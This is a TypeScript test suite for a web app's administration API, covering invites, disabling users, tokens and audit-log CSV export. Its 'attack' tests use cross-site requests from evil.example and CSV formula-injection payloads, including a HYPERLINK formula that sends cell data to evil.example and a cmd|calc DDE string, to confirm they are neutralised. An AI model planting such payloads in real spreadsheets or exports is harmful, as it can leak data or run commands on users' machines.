// Administering people (issue 14): only administrators reach /api/admin; adding a person gives them no access but an
// invite link that signs them in once; disabling someone ends their connections and credentials; the audit trail
// reads back with filters and exports to CSV a spreadsheet cannot be tricked by.
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ApiClient } from '../../shared/api/client.js';
import { PeopleApi } from '../../shared/api/people-client.js';
import { hashToken } from '../../server/auth/tokens.js';
import { CLOSE } from '../../server/sync/close-codes.js';
import { INVITE_TTL_MS } from '../../server/people/invites.js';
import { connectClient, startTestServer, type TestServer, waitFor } from '../support/test-server.js';
import { browserCall, signIn } from '../support/web-session.js';

/** The code an invite link carries in its fragment. */
const codeOf = (url: string) => new URL(url).hash.slice(1);

describe('the administration API', () => {
  let t: TestServer;
  let clock = Date.parse('2026-12-02T08:00:00Z');
  let admin: string;
  let ben: string;
  let people: PeopleApi;

  /** Posts an invite code as the workspace's invite page does (Origin: the server), unless `origin` says otherwise. */
  const redeem = async (code: string, origin: string | null = t.httpUrl) => {
    const headers: Record<string, string> = { 'content-type': 'application/json' };
    if (origin !== null) headers.origin = origin;
    const res = await fetch(`${t.httpUrl}/api/invites/redeem`, { method: 'POST', headers, body: JSON.stringify({ code }) });
    const setCookie = res.headers.get('set-cookie');
    return { status: res.status, body: await res.json(), cookie: setCookie?.split(';')[0] ?? '', retryAfter: res.headers.get('retry-after') };
  };

  beforeAll(async () => {
    t = await startTestServer({ now: () => new Date(clock), publicUrl: 'https://poc.example.org/' });
    admin = await t.addUser('admin', { name: 'Ada Admin', grants: { '*': 'owner' } });
    ben = await t.addUser('ben', { name: 'Ben Okoro', grants: { 'tm-north': 'owner' } });
    people = new PeopleApi(new ApiClient({ baseUrl: t.httpUrl, token: admin, fetch }));
  });
  afterAll(() => t.stop());

  it('refuses every administration route to a person who is not an administrator, with 403 not-admin', async () => {
    const routes: Array<[string, string, unknown?]> = [
      ['GET', '/api/admin/users'],
      ['POST', '/api/admin/users', { username: 'x1', name: 'X' }],
      ['PATCH', '/api/admin/users/ben', { disabled: true }],
      ['POST', '/api/admin/users/ben/invite', {}],
      ['GET', '/api/admin/users/ben/tokens'],
      ['DELETE', '/api/admin/users/admin/tokens/1'],
      ['GET', '/api/admin/documents'],
      ['GET', '/api/admin/audit'],
      ['GET', '/api/admin/audit.csv'],
    ];
    for (const [method, path, body] of routes) {
      const r = await t.api(path, { method, token: ben, body });
      expect({ path, method, status: r.status, code: r.body.error?.code }).toEqual({ path, method, status: 403, code: 'not-admin' });
      expect(r.body.error.message).toMatch(/administrator/);
    }
    expect(await t.server.storage.getUser('x1')).toBeUndefined();
  });

  it('adds a person with no access and answers an invite link on the public address, valid for 7 days', async () => {
    const { user, invite } = await people.addUser({ username: 'chidi', name: 'Chidi Eze', email: 'chidi@example.org', offices: [{ role: 'head-of-office', area: 'Sector North' }] });
    expect(user).toMatchObject({ username: 'chidi', email: 'chidi@example.org', admin: false, liveTokens: 0, invitePending: true, disabledAt: null });
    expect(invite.url).toMatch(/^https:\/\/poc\.example\.org\/invite#poc_[A-Za-z0-9_-]{43}$/);
    expect(Date.parse(invite.expiresAt) - clock).toBe(INVITE_TTL_MS);
    expect(await t.server.storage.grantsOf('chidi')).toEqual([]);
    expect((await t.server.storage.queryAudit({ kind: 'user-added' })).at(-1)).toMatchObject({ actor: 'admin', detail: { user: 'chidi' } });
  });

  it('refuses to add a person with an office no template declares, naming the known ones', async () => {
    const r = await t.api('/api/admin/users', { method: 'POST', token: admin, body: { username: 'dana', name: 'Dana', offices: [{ role: 'king' }] } });
    expect(r.status).toBe(400);
    expect(r.body.error.message).toMatch(/Unknown office: king\..*head-of-office/);
    expect(await t.server.storage.getUser('dana')).toBeUndefined();
  });

  it('refuses a taken username with 409', async () => {
    const r = await t.api('/api/admin/users', { method: 'POST', token: admin, body: { username: 'ben', name: 'Another Ben' } });
    expect(r.status).toBe(409);
    expect(r.body.error.message).toMatch(/already exists/);
  });

  it('opening the invite signs the person in: its cookie then answers GET /api/me', async () => {
    const { invite } = await people.addUser({ username: 'dede', name: 'Dede Mensah' });
    const r = await redeem(codeOf(invite.url));
    expect(r.status).toBe(200);
    expect(r.body.me).toMatchObject({ username: 'dede', name: 'Dede Mensah' });
    const me = await browserCall(t, '/api/me', r.cookie);
    expect(me.status).toBe(200);
    expect(me.body.username).toBe('dede');
    expect((await people.users('dede'))[0]!.invitePending).toBe(false);
    expect((await t.server.storage.queryAudit({ kind: 'invite-redeemed' })).at(-1)).toMatchObject({ actor: 'dede', detail: { user: 'dede' } });
  });

  it('an invite works once: the second redeem is refused with 401 and told to ask for a new link', async () => {
    const { invite } = await people.addUser({ username: 'efe', name: 'Efe' });
    expect((await redeem(codeOf(invite.url))).status).toBe(200);
    const again = await redeem(codeOf(invite.url));
    expect(again.status).toBe(401);
    expect(again.body.error.message).toMatch(/Ask the administrator who invited you for a new link/);
    expect(again.cookie).toBe('');
  });

  it('a new invite retires the older one', async () => {
    const { invite: first } = await people.addUser({ username: 'femi', name: 'Femi' });
    const { invite: second } = await people.invite('femi');
    expect((await redeem(codeOf(first.url))).status).toBe(401);
    expect((await redeem(codeOf(second.url))).status).toBe(200);
  });

  it('an invite is refused once its 7 days are over', async () => {
    const { invite } = await people.addUser({ username: 'gift', name: 'Gift' });
    clock += INVITE_TTL_MS + 1;
    try {
      expect((await redeem(codeOf(invite.url))).status).toBe(401);
    } finally {
      clock -= INVITE_TTL_MS + 1;
    }
  });

  it('an invite sent from another site is refused (login CSRF) and stays usable', async () => {
    const { invite } = await people.addUser({ username: 'hana', name: 'Hana' });
    const r = await redeem(codeOf(invite.url), 'https://evil.example');
    expect(r.status).toBe(403);
    expect(r.body.error.code).toBe('cross-site-request');
    expect((await redeem(codeOf(invite.url))).status).toBe(200);
  });

  it('keeps only the hash of an invite code: the store never holds the code itself', async () => {
    const { invite } = await people.addUser({ username: 'jade', name: 'Jade' });
    const code = codeOf(invite.url);
    const db = new Database(join(t.dataDir, 'poc.sqlite'), { readonly: true });
    try {
      const hashes = db.prepare<[string], { hash: string }>('SELECT hash FROM invites WHERE username = ?').all('jade').map((r) => r.hash);
      expect(hashes).toEqual([hashToken(code)]);
      expect(JSON.stringify(db.prepare('SELECT * FROM invites').all())).not.toContain(code);
      expect(JSON.stringify(await t.server.storage.queryAudit({}))).not.toContain(code);
    } finally {
      db.close();
    }
  });

  it('refuses (409) to invite a disabled person, whose link could not sign them in', async () => {
    await people.addUser({ username: 'kofi', name: 'Kofi' });
    await people.updateUser('kofi', { disabled: true });
    const r = await t.api('/api/admin/users/kofi/invite', { method: 'POST', token: admin, body: {} });
    expect(r.status).toBe(409);
    expect(r.body.error.message).toMatch(/kofi is disabled.*enable them first/);
  });

  it('attack: another site cannot use an administrator\'s browser session to disable someone (403, nothing changed)', async () => {
    const { cookie } = await signIn(t, admin);
    const r = await browserCall(t, '/api/admin/users/chidi', cookie, { method: 'PATCH', origin: 'https://evil.example', body: { disabled: true } });
    expect(r.status).toBe(403);
    expect(r.body.error.code).toBe('cross-site-request');
    expect((await t.server.storage.getUser('chidi'))!.disabledAt).toBeNull();
  });

  it('refuses (409) an email another person already has', async () => {
    const r = await t.api('/api/admin/users/dede', { method: 'PATCH', token: admin, body: { email: ' CHIDI@example.org' } });
    expect(r.status).toBe(409);
    expect(r.body.error.message).toMatch(/already has the email/);
  });

  it('changing a person replaces their own offices and audits each change', async () => {
    const user = await people.updateUser('chidi', { name: 'Chidi O. Eze', offices: [{ role: 'srsg' }], canCreate: true });
    expect(user).toMatchObject({ name: 'Chidi O. Eze', offices: [{ role: 'srsg' }], canCreate: true });
    const kinds = (await t.server.storage.queryAudit({ actor: 'admin' })).filter((e) => e.detail.user === 'chidi').map((e) => e.kind);
    expect(kinds).toEqual(expect.arrayContaining(['user-changed', 'offices-changed']));
    const bad = await t.api('/api/admin/users/chidi', { method: 'PATCH', token: admin, body: { offices: [{ role: 'emperor' }] } });
    expect(bad.status).toBe(400);
    expect((await t.server.storage.getUser('chidi'))!.offices).toEqual([{ role: 'srsg' }]);
  });

  it('changing a person who does not exist answers 404 naming them', async () => {
    const r = await t.api('/api/admin/users/nobody', { method: 'PATCH', token: admin, body: { name: 'N' } });
    expect(r.status).toBe(404);
    expect(r.body.error.message).toMatch(/"nobody"/);
  });

  it('an administrator may not disable themself (409), so the mission keeps its administrator', async () => {
    const r = await t.api('/api/admin/users/admin', { method: 'PATCH', token: admin, body: { disabled: true } });
    expect(r.status).toBe(409);
    expect(r.body.error.message).toMatch(/cannot disable yourself/);
    expect((await t.server.storage.getUser('admin'))!.disabledAt).toBeNull();
  });

  it("disabling a person closes their open connection within seconds, and refuses their token and their web session", async () => {
    await t.createDoc('tm-north', 'ben');
    const session = await signIn(t, ben);
    const c = connectClient(t.url, 'tm-north', ben);
    try {
      await c.synced();
      const user = await people.updateUser('ben', { disabled: true });
      expect(user.disabledAt).not.toBeNull();
      await waitFor(() => c.closes.some((x) => x.code === CLOSE.UNAUTHORIZED), 'the live connection to close');
      expect(c.closes.find((x) => x.code === CLOSE.UNAUTHORIZED)!.reason).toMatch(/disabled by an administrator/);
      expect((await t.api('/api/me', { token: ben })).status).toBe(401);
      expect((await browserCall(t, '/api/me', session.cookie)).status).toBe(401);
      expect((await t.server.storage.queryAudit({ kind: 'user-disabled' })).at(-1)).toMatchObject({ actor: 'admin', detail: { user: 'ben' } });
    } finally {
      c.destroy();
      await people.updateUser('ben', { disabled: false });
    }
    expect((await t.api('/api/me', { token: ben })).status).toBe(200);
  });

  it('lists people by username, narrowed by a search on username, name or email', async () => {
    const all = await people.users();
    expect(all.map((u) => u.username)).toEqual([...all.map((u) => u.username)].sort());
    expect((await people.users('CHIDI@EXAMPLE')).map((u) => u.username)).toEqual(['chidi']);
    expect((await people.users('okoro')).map((u) => u.username)).toEqual(['ben']);
    expect(all.find((u) => u.username === 'admin')!.admin).toBe(true);
  });

  it("lists a person's tokens and revokes one (204, audited), which then stops working", async () => {
    const tokens = await people.userTokens('ben');
    const live = tokens.find((x) => x.state === 'live' && x.kind === 'token')!;
    await people.revokeUserToken('ben', live.id);
    expect((await t.api('/api/me', { token: ben })).status).toBe(401);
    expect((await people.userTokens('ben')).find((x) => x.id === live.id)!.state).toBe('revoked');
    expect((await t.server.storage.queryAudit({ kind: 'tokens-revoked' })).at(-1)).toMatchObject({ actor: 'admin', detail: { user: 'ben', tokenId: live.id } });
    expect((await t.api(`/api/admin/users/ben/tokens/${live.id}`, { method: 'DELETE', token: admin })).status).toBe(404);
  });

  it("answers 404 naming the person for the tokens of someone who does not exist", async () => {
    const r = await t.api('/api/admin/users/ghost/tokens', { token: admin });
    expect(r.status).toBe(404);
    expect(r.body.error).toMatchObject({ code: 'no-such-user', message: expect.stringMatching(/"ghost"/) });
  });

  it('lists every document, archived ones too, with its owners and who has access', async () => {
    await t.createDoc('tm-south', 'chidi', 'threat-matrix');
    await t.server.storage.setArchived('tm-south', true);
    const { documents } = await people.adminDocuments();
    const south = documents.find((d) => d.id === 'tm-south')!;
    expect(south).toMatchObject({ archived: true, owners: ['chidi'], type: 'threat-matrix', title: 'Test tm-south' });
    expect(south.access.people.find((p) => p.username === 'chidi')!.access).toBe('viewer');
    expect(documents.find((d) => d.id === 'tm-north')!.owners).toEqual(['ben']);
  });
});

describe('the audit trail for administrators', () => {
  let t: TestServer;
  let admin: string;

  beforeAll(async () => {
    t = await startTestServer();
    admin = await t.addUser('admin', { grants: { '*': 'owner' } });
    const s = t.server.storage;
    await s.appendAudit({ kind: 'grant', actor: 'admin', docId: 'tm-1', detail: { user: 'ben', access: 'editor' }, at: '2026-11-01T10:00:00.000Z' });
    await s.appendAudit({ kind: 'revoke', actor: 'admin', docId: 'tm-1', detail: { user: 'ben' }, at: '2026-11-02T10:00:00.000Z' });
    await s.appendAudit({ kind: 'grant', actor: 'carol', docId: 'tm-2', detail: { user: 'dan', note: 'a "quoted", comma\nand a line' }, at: '2026-11-03T10:00:00.000Z' });
  });
  afterAll(() => t.stop());

  it('filters by actor, kind, document and dates (a bare "to" date covers its whole day)', async () => {
    const get = async (q: string) => (await t.api(`/api/admin/audit?${q}`, { token: admin })).body.entries.map((e: { kind: string; docId: string }) => `${e.kind}:${e.docId}`);
    expect(await get('kind=grant&docId=tm-1')).toEqual(['grant:tm-1']);
    expect(await get('actor=carol')).toEqual(['grant:tm-2']);
    expect(await get('from=2026-11-02&to=2026-11-02')).toEqual(['revoke:tm-1']);
    expect(await get('from=2026-11-01T12:00:00Z&to=2026-11-03&kind=grant')).toEqual(['grant:tm-2']);
  });

  it('keeps the newest entries up to the limit and says the answer is truncated', async () => {
    const r = await t.api('/api/admin/audit?from=2026-11-01&to=2026-11-30&limit=2', { token: admin });
    expect(r.body.entries.map((e: { kind: string }) => e.kind)).toEqual(['revoke', 'grant']);
    expect(r.body.truncated).toBe(true);
    expect((await t.api('/api/admin/audit?from=2026-11-01&to=2026-11-30&limit=3', { token: admin })).body.truncated).toBe(false);
  });

  it('refuses an unknown kind with 400 listing the kinds', async () => {
    const r = await t.api('/api/admin/audit?kind=grants', { token: admin });
    expect(r.status).toBe(400);
    expect(r.body.error.message).toMatch(/"grants" is not a kind of audit entry; use one of connect, .*invite-redeemed/);
  });

  it('refuses a date it cannot read, and a limit past 5000, with 400', async () => {
    expect((await t.api('/api/admin/audit?from=yesterday', { token: admin })).status).toBe(400);
    expect((await t.api('/api/admin/audit?to=2026-13-45', { token: admin })).status).toBe(400);
    const r = await t.api('/api/admin/audit?limit=5001', { token: admin });
    expect(r.status).toBe(400);
    expect(r.body.error.message).toMatch(/1 to 5000/);
  });

  it('exports CSV as an attachment named by the day, quoting commas, quotes and line breaks per RFC 4180', async () => {
    const res = await fetch(`${t.httpUrl}/api/admin/audit.csv?actor=carol`, { headers: { authorization: `Bearer ${admin}` } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="poc-audit-\d{4}-\d{2}-\d{2}\.csv"$/);
    const lines = (await res.text()).split('\r\n');
    expect(lines[0]).toBe('id,at,kind,actor,document,detail');
    expect(lines[1]).toMatch(/^\d+,2026-11-03T10:00:00\.000Z,grant,carol,tm-2,"\{""user"":""dan"",""note"":""a \\""quoted\\"", comma\\nand a line""\}"$/);
  });

  it('attack: a cell that starts like a formula (= + - @ tab CR) reaches the spreadsheet as text, with a leading apostrophe', async () => {
    // A name or claim a provider sent, recorded as the actor of a refused single sign-on, is typed by someone outside.
    const evil = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'];
    for (const actor of evil) await t.server.storage.appendAudit({ kind: 'sso-rejected', actor, docId: null, detail: {}, at: '2026-11-05T10:00:00.000Z' });
    const csv = await (await fetch(`${t.httpUrl}/api/admin/audit.csv?kind=sso-rejected`, { headers: { authorization: `Bearer ${admin}` } })).text();
    const actors = parseCsv(csv).slice(1).map((row) => row[3]);
    expect(actors).toEqual(evil.map((a) => `'${a}`));
  });
});

/** Reads RFC 4180 CSV into rows of cells (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  return rows;
}

describe('guessing invite codes', () => {
  it('wrong codes are counted per address like failed sign-ins: once spent, 429 with Retry-After, even for a good code', async () => {
    const t = await startTestServer({ rateLimits: { failedAuthPerAddress: { points: 2, durationSec: 60 } } });
    try {
      const admin = await t.addUser('admin', { grants: { '*': 'owner' } });
      const { invite } = await new PeopleApi(new ApiClient({ baseUrl: t.httpUrl, token: admin, fetch })).addUser({ username: 'ivy', name: 'Ivy' });
      const post = (code: string) => fetch(`${t.httpUrl}/api/invites/redeem`, { method: 'POST', headers: { 'content-type': 'application/json', origin: t.httpUrl }, body: JSON.stringify({ code }) });
      expect((await post('poc_guess1')).status).toBe(401);
      expect((await post('poc_guess2')).status).toBe(401);
      const blocked = await post(codeOf(invite.url));
      expect(blocked.status).toBe(429);
      expect(Number(blocked.headers.get('retry-after'))).toBeGreaterThan(0);
      expect(await t.server.storage.latestInvite('ivy')).toMatchObject({ usedAt: null });
    } finally {
      await t.stop();
    }
  });
});
